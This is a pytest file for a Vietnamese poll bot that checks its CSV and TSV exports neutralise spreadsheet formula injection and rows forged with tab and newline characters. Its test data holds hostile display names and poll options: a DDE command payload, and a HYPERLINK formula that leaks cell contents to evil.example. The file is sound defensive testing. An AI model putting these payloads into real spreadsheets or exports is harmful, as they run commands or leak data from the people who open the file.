"""Spreadsheet exports under hostile names (issue 11): display names and poll texts that a
spreadsheet would run as formulas, and a name with a tab and a newline, in `/ketqua <mã> csv`
(the file Telegram receives), `tuyengiao poll csv`, `tuyengiao poll voters` and `tuyengiao
broadcast deliveries`. The names arrive through the real adapters; one older row is written
directly, as a database from before names were cleaned would hold it."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from sqlmodel import select, update

from bot.broadcast import service as broadcasts
from bot.core.dispatcher import Dispatcher
from bot.polls import service as polls
from bot.polls import votes
from bot.polls.models import Poll, PollMessage
from bot.services import export
from bot.storage.database import Database
from bot.storage.models import Identity, Person, utcnow
from bot import messages
from bot.polls import messages as poll_texts
from bot.core.knowledge_base import KnowledgeBase
from tests.dispatchers import dispatcher
from tests.bot.broadcast.world import ADMIN_IDS, add_members, build_world
from tests.bot.conftest import assistant, db, knowledge  # noqa: F401  (fixtures)
from tests.security.chats import both_platforms
from tuyengiao.cli import main

OPTIONS = ["=cmd|' /C calc'!A0", "Bình thường", "@SUM(A1:A9)"]
HOSTILE = {  # Zalo user -> the display name the platform sends
    "z-1": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "z-2": "+84 912 345 678",
    "z-3": "-2+3+cmd|' /C calc'!A0",
    "z-4": "@Chi bộ",
    "z-5": "Lê\tVăn\nTám\r",
}


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(list(argv)) == 0
    return capsys.readouterr().out


async def test_formula_names_and_row_forging_in_exports(
        knowledge: KnowledgeBase, db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'bot.db'}")
    world = build_world(db)
    db.call(add_members, world.cell, [*HOSTILE, "z-old"], platform="zalo")
    assistant = dispatcher(db, knowledge, ADMIN_IDS, polls=True)
    officer = world.actor(db, world.officer_id)
    poll_id = db.call(polls.create, officer, question="=1+1 Đánh giá buổi sinh hoạt?",
                      options=OPTIONS, anonymous=False, closes_at=utcnow() + timedelta(hours=1),
                      unit_ids=[world.cell]).id
    db.call(polls.open_poll, officer, poll_id)

    def posted(session) -> None:  # type: ignore[no-untyped-def]
        # As the runner leaves them once sent; and one voter from before names were cleaned.
        session.exec(update(PollMessage).where(PollMessage.platform == "zalo").values(status="sent"))
        old = session.exec(select(Identity).where(Identity.platform_user_id == "z-old")).one()
        session.get(Person, old.person_id).display_name = "Cũ\tgiả\nmạo"
        message = session.exec(select(PollMessage).where(PollMessage.chat_id == "z-old")).one()
        votes.typed_vote(session, message, session.get(Poll, poll_id), "z-old", old.person_id, "2")

    db.call(posted)
    async with both_platforms(assistant) as chats:
        for user, name in HOSTILE.items():
            assert await chats.zalo(user, user, "1", name=name) == \
                poll_texts.POLL_VOTE_RECORDED.format(choice="1", id=poll_id)
        chats.tg.text_update(901, 901, f"/ketqua {poll_id} csv", first_name="Trần Thị Bình")
        sent = await chats.tg.wait_for("sendDocument", lambda p: p["chat_id"] == 901)

    # The file Telegram received: formulas neutralised, numbers left as numbers.
    file_text = sent["document"]["data"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(file_text)))
    assert rows[0] == ["Mã khảo sát", "Mã đơn vị", "Đơn vị", "Số thứ tự phương án", "Phương án",
                       "Số phiếu", "Số người trả lời"]
    assert [r[4] for r in rows[1:4]] == ["'=cmd|' /C calc'!A0", "Bình thường", "'@SUM(A1:A9)"]
    assert [(r[2], r[5], r[6]) for r in rows[1:4]] == [
        ("Chi bộ thôn Đông", "5", "6"), ("Chi bộ thôn Đông", "1", "6"), ("Chi bộ thôn Đông", "0", "6")]
    assert cli(capsys, "poll", "csv", str(poll_id)) == file_text
    out = tmp_path / "ketqua.csv"
    cli(capsys, "poll", "csv", str(poll_id), "--out", str(out))
    assert out.read_bytes().decode("utf-8") == "\ufeff" + file_text  # CRLF kept; BOM for Excel

    # Who chose what: one line per voter, whatever their names hold.
    voters = cli(capsys, "poll", "voters", str(poll_id))
    rows = list(csv.reader(io.StringIO(voters), delimiter="\t"))
    assert sorted(rows) == sorted([
        ["Chi bộ thôn Đông", "'" + HOSTILE["z-1"], "zalo", "1"],
        ["Chi bộ thôn Đông", "'+84 912 345 678", "zalo", "1"],
        ["Chi bộ thôn Đông", "'-2+3+cmd|' /C calc'!A0", "zalo", "1"],
        ["Chi bộ thôn Đông", "'@Chi bộ", "zalo", "1"],
        ["Chi bộ thôn Đông", "Lê Văn Tám", "zalo", "1"],  # cleaned when it arrived
        ["Chi bộ thôn Đông", "Cũ\tgiả\nmạo", "zalo", "2"],  # an old row: quoted, one cell
    ])
    lines = voters.split("\r\n")
    assert len([line for line in lines if line]) == 6
    assert not any(line.startswith(export.FORMULA_STARTS) for line in lines)
    listed = cli(capsys, "poll", "list")
    assert f"{poll_id}\topen\tnamed\t'=1+1 Đánh giá buổi sinh hoạt?\r\n" in listed


async def test_broadcast_deliveries_export(assistant: Dispatcher, db: Database, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'bot.db'}")
    world = build_world(db)
    async with both_platforms(assistant) as chats:  # the member's name, as Telegram sends it
        assert await chats.telegram(1001, 1001, "/start", name="=1+1") == messages.WELCOME
    officer = world.actor(db, world.officer_id)
    broadcast_id = db.call(broadcasts.create, officer, text="Thông báo", unit_ids=[world.cell]).id
    db.call(broadcasts.confirm, officer, broadcast_id)
    rows = list(csv.reader(io.StringIO(cli(capsys, "broadcast", "deliveries", str(broadcast_id))),
                           delimiter="\t"))
    assert rows[0][:5] == ["unit", "person", "platform", "chat_id", "kind"]
    by_chat = {r[3]: r for r in rows[1:]}
    assert by_chat["1001"][1] == "'=1+1"
    assert by_chat[world.groups[world.cell]][:5] == ["Chi bộ thôn Đông", "", "telegram", "-5001", "group"]


def test_one_helper_for_every_export() -> None:
    # A plain number ("+1", "-5001") is not a formula and stays readable; anything else
    # starting with = + - @ tab or CR gets the apostrophe.
    text = export.table([["=1", "+1+1", "-1", "@1", "\t1", "\r1", "-5001", "+84", "1.5", None, 7,
                           "a,b", 'q"q']])
    assert text == "'=1,'+1+1,-1,'@1,'\t1,\"'\r1\",-5001,+84,1.5,,7,\"a,b\",\"q\"\"q\"\r\n"
    assert export.tsv([["a\tb", "c\nd"]]) == '"a\tb"\t"c\nd"\r\n'
